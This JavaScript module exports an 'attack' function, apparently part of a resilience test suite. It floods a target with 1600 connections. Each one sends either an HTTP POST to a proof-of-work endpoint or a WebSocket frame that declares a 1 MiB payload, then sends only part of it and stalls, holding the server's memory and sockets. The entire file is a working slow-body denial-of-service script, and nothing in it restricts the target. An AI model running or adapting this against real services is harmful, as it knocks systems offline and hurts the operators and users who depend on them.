// Sixteen hundred bodies and messages, most of each of which comes, and the rest never.
import { again, writeOnly } from "../sockets.mjs";

const SIZE = 2 ** 20;
const SENT = 250_000;
const BODY = Buffer.concat([
  Buffer.from(
    "POST /api/v1/pow/validate HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\n" +
      `Content-Length: ${SIZE}\r\n\r\n`,
  ),
  Buffer.alloc(SENT, " "),
]);
const MESSAGE = Buffer.concat([
  Buffer.from(
    "GET /trpc HTTP/1.1\r\nHost: 127.0.0.1\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n" +
      "Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n",
  ),
  Buffer.from([0x81, 0xff, 0, 0, 0, 0, 0, 0x10, 0, 0, 0, 0, 0, 0]), // 2^20 bytes, masked with zeros
  Buffer.alloc(SENT, " "),
]);

export const attack = (target) =>
  again({ count: 1600, milliseconds: 20_000 }, (number) =>
    writeOnly(target, number % 2 === 0 ? BODY : MESSAGE),
  );
